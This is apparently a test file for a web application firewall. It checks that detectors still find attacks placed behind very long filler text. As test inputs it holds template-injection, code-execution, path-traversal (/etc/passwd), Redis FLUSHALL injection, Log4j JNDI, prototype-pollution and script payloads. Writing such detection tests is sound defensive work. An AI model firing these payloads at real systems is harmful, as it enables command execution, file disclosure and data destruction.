// What bounds the work of a detector hides nothing that stands behind it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decodedViews } from '../../../src/guard/decide/waf/detect/views/views.ts';
import { type Sought, searches } from '../../../src/guard/decide/waf/inspect/searches.ts';

const score = (sought: Sought, text: string): number => searches.get(sought)!.detect(text)?.score ?? 0;

test('an attack is found behind whatever the work of its detector may be spent on', () => {
  const popen = "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}";
  for (const [sought, filler, attack] of [
    ['template', '{{x}}', popen],
    ['template', '{x}', popen],
    ['code', '()', "eval(base64_decode('aWQ='))"],
    ['code', '(a=b)', "__import__('os').system('id')"],
    ['code', 'open(', "eval(base64_decode('aWQ='))"],
    ['path', './', '../../../../etc/passwd'],
    ['path', '//', '../../../../etc/passwd'],
    ['path', 'a/../', '../../../../etc/passwd'],
  ] as const)
    for (const length of [5_000, 20_000, 60_000]) {
      const before = filler.repeat(length / filler.length);
      assert.ok(score(sought, before + attack) >= 50, `${sought} ${filler} ${length}`);
    }
});

test('a path that climbs in the middle of a long one is found', () => {
  const much = './'.repeat(8_000);
  assert.ok(score('path', `${much}../../../../etc/passwd/${much}`) >= 50);
});

test('commands of a store are found behind a word or lines as long as one likes', () => {
  for (const length of [60, 100, 5_000, 60_000]) {
    assert.ok(score('crlf', `${'x'.repeat(length)}\r\nFLUSHALL\r\n`) >= 50, `${length}`);
    assert.ok(score('crlf', `x${'\r\nPING'.repeat(length / 6)}\r\nFLUSHALL\r\n`) >= 50, `${length}`);
  }
});

test('a look-up of Log4j is found behind a name as long as one likes', () => {
  for (const length of [100, 2_040, 2_100, 5_000, 60_000]) {
    assert.ok(score('jndi', `\${j\${${'x'.repeat(length)}:-n}di:ldap://a.example/b}`) >= 50, `${length}`);
    assert.ok(score('jndi', `\${jndi:ldap://a.example/${'x'.repeat(length)}}`) >= 50, `${length}`);
  }
});

test('steps to the prototype are found behind many others', () => {
  assert.ok(score('prototype', `${'a.'.repeat(4_000)}__proto__.b=1`) >= 50);
});

test('a run of base64 is decoded behind many others', () => {
  const encoded = (text: string): string => Buffer.from(text).toString('base64');
  const others = Array.from({ length: 200 }, (_, i) => encoded(`hello <world ${i}>`)).join(', ');
  const { list } = decodedViews(`${others}, ${encoded('<script>alert(1)</script>')}`);
  assert.ok(list.some(({ text }) => text === '<script>alert(1)</script>'));
});
